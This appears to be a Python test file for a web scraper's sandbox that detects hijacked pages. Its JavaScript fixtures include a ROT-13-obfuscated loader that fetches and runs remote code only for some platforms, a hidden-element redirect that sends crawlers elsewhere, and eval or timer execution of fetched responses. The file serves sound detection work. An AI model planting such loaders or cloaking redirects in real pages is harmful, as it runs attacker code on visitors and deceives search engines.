"""Loaders that build their code at run time (v21 G): the fake browser records the requests a script
opens, with the address it decoded, marks code run from what they fetched, and lets a script read
back by id the elements its own markup made or the served page has."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.sandbox import run_scripts
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page

# A ROT-13 decoder of the page's own, a platform gate, and a request whose answer is run as code.
XHR_LOADER = ("(function(){var k='abcdefghijklmnopqrstuvwxyz';function d(s){return s.split('').map(function(c){"
              "var i=k.indexOf(c);return i<0?c:k[(i+13)%k.length];}).join('');}"
              "if(/^Mac|Win/.test(navigator.platform))return;var x=new XMLHttpRequest();"
              "x.open('GET',d('uggcf://ncv.oebbxinyr-g.pbz')+'/c?a=1');x.onreadystatechange=function(){"
              "if(x.readyState==4&&x.status==200){new Function(JSON.parse(x.responseText).data)(document);}};x.send();})();")
# The same request for everyone whose answer is only shown: a widget, not a loader.
XHR_WIDGET = ("var x=new XMLHttpRequest();x.open('GET','/api/hits?id=2');x.onload=function(){"
              "document.getElementById('hits').textContent=JSON.parse(x.responseText).n;};x.send();")
# Markup with a hidden element holding function source, read back by id and run by a timer.
HIDDEN_SOURCE = ("window.q7=function(){var en='zQ7a',sp='<div id=\"'+en+'\" style=\"display:none\">function run(){"
                 "if(navigator.userAgent.toLowerCase().indexOf(\\'spider\\')!=-1){window.open(\\'https://go.brookvale-t.com/a\\',"
                 "\\'_self\\')}}</div>';var c=document.createElement('span');c.innerHTML=sp;document.body.appendChild(c);"
                 "setTimeout(document.getElementById(en).innerHTML+';run();',0)};window.q7();")


def test_a_decoded_request_is_recorded_and_its_answer_run_as_code_for_some_visitors():
    run = run_scripts([(0, XHR_LOADER)], URL)
    phone = [(e.kind, e.value) for e in run.effects["phone_direct"]]
    assert ("request", "https://api.brookvale-t.com/c?a=1") in phone
    assert ("code", "https://api.brookvale-t.com/c?a=1") in phone
    assert not run.effects["desktop_direct"]


def test_fetched_code_run_for_some_visitors_flags_the_page_and_keeps_the_article():
    a = clean_page(page(top=f"<script>{XHR_LOADER}</script>"), url=URL)
    assert a.hijacked, a.findings
    assert "spam_script" in kinds(a)
    assert "城乡环境综合整治是一项民心工程" in a.text


def test_a_same_site_request_whose_answer_is_shown_is_no_finding():
    a = clean_page(page(top=f"<script>{XHR_WIDGET}</script>", body='<p id="hits"></p>'
                        "<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"), url=URL)
    assert not a.hijacked, a.findings


def test_code_kept_in_markup_the_script_wrote_is_read_back_and_run():
    a = clean_page(page(top=f"<script>{HIDDEN_SOURCE}</script>"), url=URL)
    assert a.hijacked, a.findings
    assert "js_redirect" in kinds(a)
    assert "城乡环境综合整治是一项民心工程" in a.text


def test_a_served_element_looked_up_by_id_answers_with_its_markup():
    from lxml import html

    from scraper.clean.behaviour import page_lookups
    root = html.fromstring('<html><body><div id="src" data-k="v" title="t">function go(){location.href="https://a.example-x.com/"}'
                           '</div></body></html>')
    code = "eval(document.getElementById('src').textContent+';go();')"
    run = run_scripts([(0, code)], URL, page=page_lookups(root, code=code))
    assert ("nav", "https://a.example-x.com/") in [(e.kind, e.value) for e in run.effects["spider"]]


def test_an_answer_run_by_eval_or_a_timer_string_is_code_run_too():
    for run_it in ("eval(x.responseText)", "setTimeout(x.responseText,0)"):
        code = ("var x=new XMLHttpRequest();x.open('GET','https://cdn.brookvale-t.com/j');"
            f"x.onload=function(){{if(/Mobile/.test(navigator.userAgent)){run_it};}};x.send();")
        run = run_scripts([(0, code)], URL)
        assert ("code", "https://cdn.brookvale-t.com/j") in [(e.kind, e.value) for e in run.effects["phone_direct"]]
        assert "code" not in [e.kind for e in run.effects["desktop_direct"]]
